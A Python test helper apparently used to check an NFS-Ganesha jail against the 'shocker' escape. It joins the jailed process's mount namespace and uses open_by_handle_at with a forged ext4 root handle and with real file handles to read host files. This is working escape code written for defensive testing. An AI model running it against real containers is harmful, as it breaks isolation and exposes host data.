"""The "shocker" attack on ganesha's jail (node/nfs.py "Jail"), for tests/node/test_nfs_jail.py:
run as root on the host with ganesha's pid, it joins ganesha's mount namespace, keeps only
ganesha's capabilities (node/nfs.py KEEP_CAPS: CAP_DAC_READ_SEARCH among them), and with each
mount visible there as mount_fd tries open_by_handle_at on

- the root directory of that mount's file system, by a forged handle (ext4's root: handle type
  FILEID_INO32_GEN = 1, inode 2, generation 0), then walks from it to each host file of
  `targets` (its path relative to the root of the file system it is on);
- the real handle of each host file of `handles` (taken on the host with name_to_handle_at, as
  an attacker who knows or guesses one would forge it).

Prints JSON: {mount point: {attempt: "read:<text>" | "opened" | errno name}}. Stdlib only;
everything is imported before the namespace changes (the jail has no Python).

    python3 handle_attack.py PID '{"targets": {...}, "handles": {...}}'
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import struct
import sys

CLONE_NEWNS = 0x00020000
FILEID_INO32_GEN = 1
EXT4_ROOT_INO = 2
_LINUX_CAPABILITY_VERSION_3 = 0x20080522
_SYS_CAPSET = 126  # x86_64
_libc = ctypes.CDLL(None, use_errno=True)


def file_handle(handle_type: int, data: bytes) -> ctypes.Array[ctypes.c_char]:
    """struct file_handle { u32 handle_bytes; int handle_type; u8 f_handle[]; }"""
    raw = struct.pack("=Ii", len(data), handle_type) + data
    return ctypes.create_string_buffer(raw, len(raw))


def handle_of(path: str) -> tuple[int, str]:
    """(handle type, handle bytes as hex) of a host file (name_to_handle_at)."""
    buf = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + b"\0" * 128, 136)
    mount_id = ctypes.c_int()
    if _libc.name_to_handle_at(-100, path.encode(), buf, ctypes.byref(mount_id), 0) != 0:
        err = ctypes.get_errno()
        raise OSError(err, f"name_to_handle_at {path}: {os.strerror(err)}")
    size, kind = struct.unpack("=Ii", buf.raw[:8])
    return kind, buf.raw[8:8 + size].hex()


def _errname(err: int) -> str:
    return errno.errorcode.get(err, str(err))


def _open_by_handle(mount_fd: int, handle: ctypes.Array[ctypes.c_char], flags: int) -> int:
    fd = _libc.open_by_handle_at(mount_fd, handle, flags)
    if fd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return int(fd)


def _read(fd: int) -> str:
    return "read:" + os.read(fd, 200).decode(errors="replace")


def _keep_caps(caps: list[int]) -> None:
    mask = sum(1 << c for c in caps)
    header = struct.pack("=Ii", _LINUX_CAPABILITY_VERSION_3, 0)
    data = struct.pack("=6I", mask & 0xFFFFFFFF, mask & 0xFFFFFFFF, 0, mask >> 32, mask >> 32, 0)
    if _libc.syscall(_SYS_CAPSET, header, data) != 0:
        raise OSError(ctypes.get_errno(), "capset")


def attack(pid: int, targets: dict[str, str], handles: dict[str, tuple[int, str]],
           caps: list[int]) -> dict[str, dict[str, str]]:
    with open(f"/proc/{pid}/mountinfo") as f:
        mounts = [line.split()[4] for line in f]
    ns = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    if _libc.setns(ns, CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    os.close(ns)
    _keep_caps(caps)
    results: dict[str, dict[str, str]] = {}
    for mount in mounts:
        out = results.setdefault(mount, {})
        try:
            mount_fd = os.open(mount, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as exc:
            out["mount_fd"] = _errname(exc.errno or 0)
            continue
        try:
            try:
                root = _open_by_handle(mount_fd,
                                       file_handle(FILEID_INO32_GEN,
                                                   struct.pack("=II", EXT4_ROOT_INO, 0)),
                                       os.O_RDONLY | os.O_DIRECTORY)
                out["forged root"] = "opened"
                for name, relative in targets.items():
                    try:
                        fd = os.open(relative, os.O_RDONLY, dir_fd=root)
                        out[f"walk to {name}"] = _read(fd)
                        os.close(fd)
                    except OSError as exc:
                        out[f"walk to {name}"] = _errname(exc.errno or 0)
                os.close(root)
            except OSError as exc:
                out["forged root"] = _errname(exc.errno or 0)
            for name, (kind, data) in handles.items():
                try:
                    fd = _open_by_handle(mount_fd, file_handle(kind, bytes.fromhex(data)),
                                         os.O_RDONLY)
                    out[f"handle of {name}"] = _read(fd)
                    os.close(fd)
                except OSError as exc:
                    out[f"handle of {name}"] = _errname(exc.errno or 0)
        finally:
            os.close(mount_fd)
    return results


if __name__ == "__main__":
    spec = json.loads(sys.argv[2])
    print(json.dumps(attack(int(sys.argv[1]), spec["targets"],
                            {k: (v[0], v[1]) for k, v in spec["handles"].items()},
                            spec["caps"])))
